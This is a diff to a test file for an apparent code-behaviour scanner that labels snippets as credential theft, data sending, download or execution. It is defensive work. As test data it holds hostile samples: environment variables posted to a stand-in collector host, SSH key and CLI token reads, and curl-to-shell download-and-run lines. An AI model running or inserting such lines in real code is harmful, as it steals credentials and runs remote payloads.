@@ -24,6 +24,9 @@ describe('readBehaviors', () => {
     expect(kinds('let body = reqwest::blocking::get(url)?.bytes()?;\nCommand::new(&path).status()?;', 'rust')).toEqual(['download', 'execute']);
     expect(kinds('data = dict(os.environ)\nrequests.post("https://collector.example/x", json=data)', 'python')).toEqual(['environment', 'send']);
     expect(kinds('key = open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'python')).toEqual(['credential-file']);
+    expect(kinds("const token = execSync('gh auth token').toString();", 'js')).toEqual(['credential-file', 'execute']);
+    expect(kinds('TOKEN=$(gcloud auth print-access-token)', 'shell')).toContain('credential-file');
+    expect(kinds('gh auth status', 'shell')).toEqual([]);
     expect(kinds('system("curl -sL https://example.com/tool -o /tmp/tool && chmod +x /tmp/tool && /tmp/tool")', 'ruby')).toEqual(['download', 'execute']);
     expect(kinds("tasks.register<Exec>(\"fetch\") { commandLine(\"sh\", \"-c\", \"curl http://203.0.113.9/x | sh\") }", 'java')).toEqual(['download', 'execute', 'suspicious-host']);
     expect(kinds('<get src="https://example.com/agent.jar" dest="target/agent.jar"/>', 'xml')).toEqual(['download']);
